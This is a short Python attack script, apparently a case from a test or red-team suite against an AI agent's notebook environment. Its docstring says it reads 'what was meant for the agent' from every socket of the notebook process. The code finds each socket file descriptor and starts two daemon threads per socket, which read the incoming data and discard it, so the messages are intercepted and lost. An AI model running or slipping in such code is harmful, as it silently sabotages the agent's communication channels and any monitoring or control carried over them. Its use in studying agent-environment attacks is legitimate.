"""Reads from every socket of the notebook's process, in a thread, what was meant for the agent.

attack: marks
perhaps: double.value
limits: call=1
"""
import os, stat, threading, time

def sockets():
    for fd in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                yield fd
        except OSError:
            pass


def steal(fd):
    while True:
        try:
            if not os.read(fd, 4096):
                time.sleep(0.001)
        except OSError:
            time.sleep(0.001)

for fd in sockets():
    for _ in range(2):
        threading.Thread(target=steal, args=(fd,), daemon=True).start()
